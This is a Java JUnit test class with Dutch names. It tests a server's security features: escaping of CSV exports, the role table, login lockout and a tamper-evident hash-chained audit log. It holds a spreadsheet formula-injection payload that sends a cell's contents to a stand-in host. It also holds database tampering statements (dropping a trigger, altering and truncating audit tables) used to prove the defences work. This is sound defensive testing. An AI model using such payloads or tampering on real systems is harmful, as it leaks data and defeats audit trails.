package nl.kansrijk.service;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Clock;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.Set;

import nl.kansrijk.io.input.ReadOptions;
import nl.kansrijk.service.opslag.Opslag;
import nl.kansrijk.service.web.Rechten;
import nl.kansrijk.service.web.Rol;
import nl.kansrijk.service.web.WerkbankServer;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/**
 * Issue 33 over real HTTP against a started server: safe exports, roles, abuse-resistant login, the hash chain and
 * the audited period. Run against H2 and against PostgreSQL.
 */
abstract class VertrouwenTestBasis {

    static final String HYPERLINK = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"dossier\")";

    @TempDir
    Path tmp;

    Proefopstelling w;
    Klant rv;
    TestDatabase db;

    abstract TestDatabase database(Path dir) throws Exception;

    /** Whether this is PostgreSQL (TRUNCATE triggers, DROP TRIGGER ... ON). */
    boolean postgres() {
        return db.url().startsWith("jdbc:postgresql:");
    }

    @BeforeEach
    void start() throws Exception {
        db = database(tmp);
        w = new Proefopstelling(tmp, db, Proefopstelling.MINI, 256 * 1024);
        rv = w.ingelogd("rv-001");
    }

    @AfterEach
    void stop() {
        if (w != null) {
            w.close();
        }
    }

    @Test
    void aFormulaInAReasonIsExportedAsText() {
        var advies = rv.get("/api/huishoudens/H01/advies").json();
        long versie = advies.get("plan_versie").asLong();
        String tweede = advies.get("advies").get(1).get("gemeente_code").asString();
        assertThat(rv.post("/api/koppelingen", ApiTestBasis.beslissing("H01", tweede, HYPERLINK, versie)).status())
                .isEqualTo(201);

        String log = rv.get("/api/export/beslissingen.csv").tekst();
        assertThat(log).contains(",\"'=HYPERLINK(").doesNotContain(",\"=HYPERLINK(");
        String koppelingen = rv.get("/api/export/koppelingen.csv").tekst();
        String h01 = koppelingen.lines().filter(l -> l.startsWith("H01,")).findFirst().orElseThrow();
        assertThat(h01).endsWith(",\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"dossier\"\")\"");
        assertThat(rv.get("/api/huishoudens/H01/uitleg").json().get("overrule_reden").asString()).isEqualTo(HYPERLINK);
    }

    // ---- roles -------------------------------------------------------------------------------------------

    @Test
    void everyRouteIsListedInTheRoleTable() {
        for (WerkbankServer.Route r : w.server.routes()) {
            if (!r.pad().equals("/api/health") && !r.pad().equals("/api/login")) {
                assertThat(Rechten.vermeld(r.methode(), r.pad())).as(r.toString()).isTrue();
            }
        }
    }

    /** Every route for every role: 403 exactly where the role table says no (table-driven over the route list). */
    @Test
    void everyRouteAnswers403ExactlyToTheRolesThatMayNotUseIt() {
        Map<Rol, String> wie = Map.of(Rol.REGIEVOERDER, "rv-002", Rol.BEHEERDER, "bh-001", Rol.LEZER, "lz-001");
        List<WerkbankServer.Route> routes = new ArrayList<>(w.server.routes());
        routes.sort(Comparator.comparing((WerkbankServer.Route r) -> r.pad().equals("/api/logout")));
        int geweigerd = 0;
        for (Rol rol : Rol.values()) {
            Klant k = w.ingelogd(wie.get(rol));
            assertThat(k.get("/api/sessie").json().get("rollen").get(0).asString()).isEqualTo(rol.naam());
            for (WerkbankServer.Route r : routes) {
                if (r.pad().equals("/api/health") || r.pad().equals("/api/login")) {
                    continue;
                }
                Klant.Antwoord a = stuur(k, r);
                boolean mag = Rechten.rollen(r.methode(), r.pad()).contains(rol);
                if (mag) {
                    assertThat(a.status()).as(rol + " " + r).isNotEqualTo(403);
                } else {
                    geweigerd++;
                    assertThat(a.status()).as(rol + " " + r).isEqualTo(403);
                    assertThat(a.json().get("fout").asString()).contains("uw rol (" + rol.naam() + ")");
                }
            }
        }
        assertThat(geweigerd).as("the table refuses something to every role").isGreaterThanOrEqualTo(5);
        assertThat(w.server.beveiligingslog().laatste()).anyMatch(l -> l.startsWith("gebeurtenis=geweigerd-403"));
    }

    @Test
    void tokensHaveRolesToo() {
        Klant lezer = w.klant().metToken(Proefopstelling.LEZER_TOKEN);
        assertThat(lezer.get("/api/export/beslissingen.csv").status()).isEqualTo(200);
        long versie = lezer.get("/api/periode").json().get("plan_versie").asLong();
        Klant.Antwoord a = lezer.post("/api/koppelingen", ApiTestBasis.beslissing("H04", "GM0014", null, versie));
        assertThat(a.status()).isEqualTo(403);
        assertThat(lezer.put("/api/periode", "application/zip", new byte[0]).status()).isEqualTo(403);
        Klant tvs = w.klant().metToken(Proefopstelling.TOKEN);
        assertThat(tvs.put("/api/periode", "application/zip", new byte[0]).status()).isEqualTo(403);
        assertThat(tvs.post("/api/periode/herladen", Map.of()).status()).isEqualTo(403);
    }

    @Test
    void aRegievoerderCannotReplaceThePeriodNorABeheerderDecide() {
        Klant rv2 = w.ingelogd("rv-002");
        Klant.Antwoord a = rv2.post("/api/periode/herladen", Map.of());
        assertThat(a.status()).isEqualTo(403);
        assertThat(a.json().get("fout").asString()).contains("dat mag: beheerder");
        Klant bh = w.ingelogd("bh-001");
        long versie = bh.get("/api/periode").json().get("plan_versie").asLong();
        assertThat(bh.post("/api/koppelingen", ApiTestBasis.beslissing("H04", "GM0014", null, versie)).status()).isEqualTo(403);
        assertThat(bh.post("/api/periode/herladen", Map.of()).status()).isEqualTo(200);
        assertThat(rv.get("/api/beslissingen").json()).isEmpty();
    }

    static Klant.Antwoord stuur(Klant k, WerkbankServer.Route r) {
        String pad = r.pad().replace("{id}", "H01");
        return switch (r.methode()) {
            case "get" -> k.get(pad);
            case "delete" -> k.delete(pad);
            case "put" -> k.put(pad, "application/zip", new byte[0]);
            default -> k.post(pad, Map.of());
        };
    }

    // ---- login that resists abuse ------------------------------------------------------------------------

    @Test
    void idsOfTheWrongFormAreRefusedBeforeAnyHashing() {
        Klant k = w.klant();
        Klant.Antwoord lang = k.post("/api/login", Map.of("gebruiker", "x".repeat(65), "wachtwoord", "x"));
        assertThat(lang.status()).isEqualTo(400);
        assertThat(lang.json().get("fout").asString()).contains("1 tot 64 tekens");
        assertThat(k.post("/api/login", Map.of("gebruiker", "rv 001", "wachtwoord", "x")).status()).isEqualTo(400);
        assertThat(w.server.beveiligingslog().laatste()).anyMatch(l -> l.startsWith("gebeurtenis=login-ongeldige-id"));
    }

    @Test
    void aLockoutHoldsOnlyForTheAddressThatFailedSoNobodyLocksOutAUserFromElsewhere() {
        // the per-(id, address) lock: here every client is 127.0.0.1, so the user is locked for this address only,
        // and after MAX_PER_ADRES failures the address as a whole
        Klant k = w.klant();
        for (int i = 0; i < 5; i++) {
            assertThat(k.login("rv-002", "fout-" + i).status()).isEqualTo(401);
        }
        assertThat(k.login("rv-002", Proefopstelling.WACHTWOORD).status()).isEqualTo(429);
        for (int i = 0; i < 15; i++) {
            assertThat(k.login("nr-" + i, "fout").status()).isEqualTo(401);
        }
        Klant.Antwoord a = k.login("rv-001", Proefopstelling.WACHTWOORD);
        assertThat(a.status()).isEqualTo(429);
        assertThat(a.json().get("fout").asString()).contains("vanaf dit adres");
        List<String> log = w.server.beveiligingslog().laatste();
        assertThat(log).anyMatch(l -> l.startsWith("gebeurtenis=login-mislukt")).anyMatch(l -> l.contains("reden=adres"));
        assertThat(String.join("\n", log)).doesNotContain("rv-002").doesNotContain("rv-001").doesNotContain("127.0.0.1")
                .doesNotContain(Proefopstelling.WACHTWOORD);
    }

    // ---- the tamper-evident log --------------------------------------------------------------------------

    private long beslisAdvies(Klant k, String id) {
        JsonNode advies = k.get("/api/huishoudens/" + id + "/advies").json();
        long versie = advies.get("plan_versie").asLong();
        Klant.Antwoord a = k.post("/api/koppelingen", ApiTestBasis.beslissing(id,
                advies.get("advies").get(0).get("gemeente_code").asString(), null, versie));
        assertThat(a.status()).isEqualTo(201);
        return a.json().get("id").asLong();
    }

    @Test
    void theChainCoversEventsAndDecisionsAndAnInsertedRowBreaksIt() throws Exception {
        beslisAdvies(rv, "H01");
        beslisAdvies(rv, "H05");
        JsonNode k = rv.get("/api/audit/keten").json();
        assertThat(k.get("heel").asBoolean()).isTrue();
        assertThat(k.get("lengte").asLong()).as("the period loaded at start and two decisions").isEqualTo(3);
        assertThat(k.get("kop").asString()).hasSize(64);
        assertThat(w.opslag.keten().heel()).isTrue();

        try (Connection c = w.opslag.dataSource().getConnection(); Statement s = c.createStatement()) {
            s.executeUpdate("INSERT INTO beslissing (tijd, gebruiker, periode, plan_versie, huishouden_id, gekozen_gemeente, "
                    + "rang, kosten_per_regel) VALUES (CURRENT_TIMESTAMP, 'iemand', '2026-H1', 99, 'H02', 'GM0014', 1, '{}')");
        }
        JsonNode na = rv.get("/api/audit/keten").json();
        assertThat(na.get("heel").asBoolean()).isFalse();
        assertThat(na.get("fout").asString()).contains("staat niet in de keten");
        assertThat(w.server.beveiligingslog().laatste()).anyMatch(l -> l.startsWith("gebeurtenis=keten-gebroken"));
    }

    @Test
    void aChangedDecisionBreaksTheChainEvenWhenTheTriggerIsDropped() throws Exception {
        long id = beslisAdvies(rv, "H01");
        beslisAdvies(rv, "H05");
        try (Connection c = w.opslag.dataSource().getConnection(); Statement s = c.createStatement()) {
            s.execute(postgres() ? "DROP TRIGGER beslissing_geen_wijziging ON beslissing" : "DROP TRIGGER beslissing_geen_wijziging");
            s.executeUpdate("UPDATE beslissing SET gebruiker = 'iemand anders' WHERE id = " + id);
        }
        JsonNode k = rv.get("/api/audit/keten").json();
        assertThat(k.get("heel").asBoolean()).isFalse();
        assertThat(k.get("fout").asString()).contains("schakel 2 (beslissing " + id + ") klopt niet");
        assertThat(k.get("lengte").asLong()).isEqualTo(1);
    }

    @Test
    void truncateIsRefusedByPostgresqlAndOtherwiseCaughtByTheChain() throws Exception {
        beslisAdvies(rv, "H01");
        for (String tabel : List.of("beslissing", "keten", "gebeurtenis", "invoerversie", "invoerversie_bestand")) {
            boolean geweigerd;
            try (Connection c = w.opslag.dataSource().getConnection(); Statement s = c.createStatement()) {
                s.execute("TRUNCATE TABLE " + tabel);
                geweigerd = false;
            } catch (SQLException e) {
                geweigerd = true;
                if (postgres()) {
                    assertThat(e.getMessage()).contains("alleen aan te vullen");
                }
            }
            if (postgres()) {
                assertThat(geweigerd).as("TRUNCATE %s", tabel).isTrue();
            } else if (!geweigerd) {
                assertThat(w.opslag.keten().heel()).as("TRUNCATE %s passed H2, the chain must show it", tabel).isFalse();
                return;
            }
        }
        assertThat(w.opslag.keten().heel()).isTrue();
    }

    // ---- period changes as audited events ----------------------------------------------------------------

    @Test
    void aNewPeriodIsAnAuditedVersionAndDecisionsRecordTheirVersion() throws Exception {
        beslisAdvies(rv, "H01");
        Files.writeString(w.map.resolve("gemeenten.csv"), Files.readString(w.map.resolve("gemeenten.csv"))
                .replace("Veendam", "Veendam (nieuw)"));
        Klant bh = w.ingelogd("bh-001");
        assertThat(bh.put("/api/periode", "application/zip", ApiTestBasis.zip(w.map, Map.of())).status()).isEqualTo(200);
        beslisAdvies(rv, "H05");

        JsonNode versies = rv.get("/api/periode/versies").json();
        assertThat(versies).hasSize(2);
        assertThat(versies.get(0).get("gebruiker").asString()).isEqualTo("serve (opstart)");
        assertThat(versies.get(1).get("gebruiker").asString()).isEqualTo("bh-001");
        assertThat(versies.get(1).get("bron").asString()).isEqualTo("upload");
        assertThat(versies.get(1).get("huidig").asBoolean()).isTrue();
        String shaOud = versies.get(0).get("sha256").get("gemeenten.csv").asString();
        String shaNieuw = versies.get(1).get("sha256").get("gemeenten.csv").asString();
        assertThat(shaNieuw).hasSize(64).isNotEqualTo(shaOud);
        assertThat(versies.get(1).get("sha256").get("huishoudens.csv").asString())
                .isEqualTo(versies.get(0).get("sha256").get("huishoudens.csv").asString());

        JsonNode log = rv.get("/api/beslissingen").json();
        assertThat(log.get(0).get("invoerversie").asLong()).isEqualTo(1);
        assertThat(log.get(1).get("invoerversie").asLong()).isEqualTo(2);
        String csv = rv.get("/api/export/beslissingen.csv").tekst();
        assertThat(csv.lines().findFirst().orElseThrow()).endsWith(",invoerversie,reden");
        assertThat(csv.lines().skip(2).findFirst().orElseThrow()).endsWith(",2,");
        String gebeurtenissen = rv.get("/api/export/gebeurtenissen.csv").tekst();
        assertThat(gebeurtenissen.lines().toList()).hasSize(3);
        assertThat(gebeurtenissen.lines().skip(2).findFirst().orElseThrow()).contains(",bh-001,periode-geladen,2,")
                .contains(shaNieuw);
        assertThat(rv.get("/api/audit/keten").json().get("lengte").asLong()).isEqualTo(4);
        try (Connection c = w.opslag.dataSource().getConnection(); Statement s = c.createStatement()) {
            assertThatSql(s, "DELETE FROM invoerversie_bestand");
            assertThatSql(s, "UPDATE gebeurtenis SET gebruiker = 'x'");
        }
    }

    private static void assertThatSql(Statement s, String sql) {
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> s.executeUpdate(sql)).as(sql).isInstanceOf(SQLException.class);
    }

    @Test
    void aStartOnOtherInputThanTheDatabaseSaysSoAndRefusesUnlessTold() throws Exception {
        beslisAdvies(rv, "H01");
        w.close();
        w = null;
        Files.writeString(tmp.resolve("invoer").resolve("gemeenten.csv"), Files.readString(tmp.resolve("invoer")
                .resolve("gemeenten.csv")).replace("Veendam", "Veendam (ander)"));
        try (Opslag o = Opslag.open(db.url(), db.user(), db.password())) {
            org.assertj.core.api.Assertions.assertThatThrownBy(() -> new Werkbank(o, tmp.resolve("invoer"),
                    ReadOptions.DEFAULT, Clock.systemUTC()))
                    .hasMessageContaining("uit andere bestanden dan de invoermap (anders: gemeenten.csv)")
                    .hasMessageContaining("--input-from");
            Werkbank uitDatabase = new Werkbank(o, tmp.resolve("invoer"), ReadOptions.DEFAULT, Clock.systemUTC(),
                    Invoerkeuze.DATABASE);
            assertThat(uitDatabase.audit().versies()).hasSize(1);
            assertThat(uitDatabase.startmelding()).contains("anders: gemeenten.csv").contains("uit de database");
            assertThat(uitDatabase.beslissingen()).hasSize(1);
            uitDatabase.taken().close();
            Werkbank uitMap = new Werkbank(o, tmp.resolve("invoer"), ReadOptions.DEFAULT, Clock.systemUTC(), Invoerkeuze.MAP);
            assertThat(uitMap.audit().versies()).hasSize(2);
            assertThat(uitMap.audit().versies().get(1).bron()).isEqualTo("map");
            assertThat(uitMap.startmelding()).contains("nieuwe invoerversie");
            assertThat(uitMap.audit().keten().heel()).isTrue();
            uitMap.taken().close();
            // the same files again: no question asked
            Werkbank zelfde = new Werkbank(o, tmp.resolve("invoer"), ReadOptions.DEFAULT, Clock.systemUTC());
            assertThat(zelfde.audit().versies()).hasSize(2);
            assertThat(zelfde.startmelding()).isNull();
            zelfde.taken().close();
        }
    }
}
